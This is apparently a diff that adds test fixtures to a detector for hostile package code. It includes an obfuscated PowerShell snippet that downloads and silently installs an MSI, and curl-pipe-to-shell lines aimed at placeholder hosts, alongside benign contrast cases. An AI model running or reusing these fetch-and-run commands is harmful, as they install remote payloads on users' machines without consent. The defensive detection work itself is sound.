@@ -92,6 +92,14 @@ const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s 
       weight: 'proof',
     },
     {
+      when: 'a command is encoded for PowerShell when it runs, and fetches a program',
+      files: {
+        'index.js': `const parts = ['Start-Bits', 'Transfer -Source https://files.invalid/a.msi -Destination $env:TEMP\\\\a.msi; ', 'msiexec /i $env:TEMP\\\\a.msi /qn']; require('child_process').exec('powershell -EncodedCommand ' + Buffer.from(parts.join(''), 'utf16le').toString('base64'))`,
+      },
+      weight: 'proof',
+      says: ['downloads with PowerShell'],
+    },
+    {
       when: 'a download is piped into a shell',
       files: { 'index.js': `require('child_process').exec('curl -s https://c2.invalid/x.sh | sh')` },
       weight: 'proof',
@@ -152,6 +160,12 @@ const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s 
     {
       when: 'a page of documentation offers to copy how something is installed',
       files: { 'index.js': `exports.copy = () => navigator.clipboard.writeText('curl -fsSL https://get.invalid/install.sh | sh')` },
+    },
+    {
+      when: 'a question to the registry of Windows is encoded for PowerShell when it runs',
+      files: {
+        'index.js': `const ask = '(Get-ItemProperty -Path "HKCU:\\\\Software\\\\Inert").ProgId'; require('child_process').execFile('powershell', ['-NoProfile', '-EncodedCommand', Buffer.from(ask, 'utf16le').toString('base64')])`,
+      },
     },
     {
       when: 'a page is opened for the user by PowerShell',
